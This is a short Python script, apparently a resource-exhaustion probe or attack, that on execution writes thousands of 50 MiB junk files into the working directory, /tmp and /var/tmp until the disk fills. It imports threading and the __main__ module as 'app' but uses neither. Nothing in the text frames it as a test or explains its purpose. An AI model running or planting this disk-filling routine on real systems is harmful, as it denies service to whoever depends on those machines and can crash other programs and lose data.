import threading

import __main__ as app


def fill():
    block = b"x" * (1 << 20)
    for number in range(10_000):
        for folder in (".", "/tmp", "/var/tmp"):
            try:
                with open(f"{folder}/fill-{number}", "wb") as file:
                    for _ in range(50):
                        file.write(block)
            except OSError as error:
                print(folder, error)


fill()
